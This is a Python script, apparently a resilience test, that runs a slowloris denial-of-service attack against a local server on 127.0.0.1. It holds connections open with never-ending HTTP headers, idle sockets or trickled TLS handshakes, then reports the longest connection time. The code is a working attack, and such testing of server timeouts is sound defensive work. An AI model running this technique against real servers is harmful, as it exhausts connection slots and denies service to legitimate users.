#!/usr/bin/env python3
"""slowloris.py PORT N SECONDS OUT [idle|tls] - the slowloris attack, from 127.0.0.1.

Keeps N connections to 127.0.0.1:PORT (every 2 s it re-opens those the
server closed, so the attack holds every slot it can get) and sends each
one byte of a request header that never ends every 2 s, for SECONDS.
With "idle" the connections send nothing at all (idle connections crowding
the slots); with "tls" they trickle a TLS ClientHello instead, so the
handshake itself never ends.  Writes to OUT, once done:

  longest S       the longest any connection stayed open, in seconds (measured to 0.5 s)
"""
import socket
import sys
import time

port, n, secs, out = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
idle = sys.argv[5:] == ["idle"]
HEADER = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
if sys.argv[5:] == ["tls"]:
    import ssl
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(inc, outg)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    HEADER = outg.read()

conns = {}  # socket -> [opened_at, bytes_sent, next_send]
longest = 0.0
t0 = time.monotonic()


def closed(s):
    """True when the server has closed s (EOF, reset) or it never connected.  What
    the server sent first (a TLS alert, an error response) is read and dropped."""
    try:
        while True:
            if s.recv(4096) == b"":
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


next_open = t0
while True:
    now = time.monotonic()
    if now - t0 >= secs:
        break
    for s, st in list(conns.items()):
        if closed(s):
            longest = max(longest, now - st[0])
            s.close()
            del conns[s]
        elif now >= st[2] and not idle:
            try:
                s.send(HEADER[st[1]:st[1] + 1])
                st[1] += 1
            except OSError:
                pass
            st[2] = now + 2
    if now >= next_open:
        next_open = now + 2
        while len(conns) < n:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind(("127.0.0.1", 0))
            s.setblocking(False)
            try:
                s.connect(("127.0.0.1", port))
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                break
            conns[s] = [now, 0, now]
    time.sleep(0.5)
now = time.monotonic()
for s, st in conns.items():
    longest = max(longest, now - st[0])
    s.close()
with open(out, "w") as f:
    f.write("longest %.1f\n" % longest)
